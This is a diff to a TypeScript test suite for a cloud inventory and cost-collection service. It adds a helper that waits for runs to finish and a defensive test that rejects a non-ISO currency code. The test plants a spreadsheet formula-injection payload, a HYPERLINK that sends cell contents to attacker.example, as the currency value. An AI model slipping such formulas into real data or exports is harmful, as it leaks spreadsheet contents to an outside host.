@@ -42,6 +42,16 @@ for (const dialect of testDialects()) {
       await t.worker({ connectors: { azure } }).runOnce()
     }
 
+    /** Worker turns until the run is over: earlier tests leave analysis runs queued before it. */
+    const finished = async (tenantId: string, runId: string, key: string) => {
+      for (let turn = 0; turn < 5; turn++) {
+        await runWorkerAgainstFake()
+        const run = (await t.request('GET', `${API}/tenants/${tenantId}/snapshots/${runId}`, key)).json()
+        if (run.status !== 'Queued' && run.status !== 'Running') return run
+      }
+      throw new Error(`run ${runId} did not finish`)
+    }
+
     it('collects inventory and costs through the API, the worker and the Azure protocols', async () => {
       const org = await t.given.organisation()
       const created = await t.request('POST', `${API}/tenants`, org.ownerKey, {
@@ -146,6 +156,39 @@ for (const dialect of testDialects()) {
       expect(failed).toMatchObject({ status: 'Failed', error: { code: 'auth_failed' } })
       expect(failed.error.message).not.toContain(SECRET)
       expect(t.logs.join('\n')).not.toContain(SECRET)
+    })
+
+    it('fails a run whose cost data names a currency that is not an ISO 4217 code, keeping none of it', async () => {
+      const org = await t.given.organisation()
+      const tenant = (
+        await t.request('POST', `${API}/tenants`, org.ownerKey, {
+          name: 'Hostile currency',
+          cloudTenantId: DIRECTORY,
+          credentialType: 'ServicePrincipalSecret',
+          clientId: APP,
+          clientSecret: SECRET,
+        })
+      ).json()
+      const formula = '=HYPERLINK("https://attacker.example/?"&A1,"EUR")'
+      const prod = estate.subscriptions[0]!
+      const was = prod.currency
+      prod.currency = formula
+      try {
+        const run = (await t.request('POST', `${API}/tenants/${tenant.id}/snapshots`, org.ownerKey)).json()
+        const failed = await finished(tenant.id, run.id, org.ownerKey)
+        expect(failed).toMatchObject({ status: 'Failed', error: { code: 'provider_error' } })
+        expect(failed.error.message).toContain('not a three-letter ISO 4217 code')
+        expect(failed.error.message).not.toContain('HYPERLINK')
+        const subs = (await t.request('GET', `${API}/tenants/${tenant.id}/subscriptions`, org.ownerKey)).json()
+        expect(subs.totalCount).toBe(0)
+        const chart = (
+          await t.request('GET', `${API}/tenants/${tenant.id}/costs/daily?from=2023-10-31&to=2023-11-06`, org.ownerKey)
+        ).json()
+        expect(JSON.stringify(chart)).not.toContain('HYPERLINK')
+        expect(chart.points.reduce((a: number, p: { cost: number }) => a + p.cost, 0)).toBe(0)
+      } finally {
+        prod.currency = was
+      }
     })
   })
 }
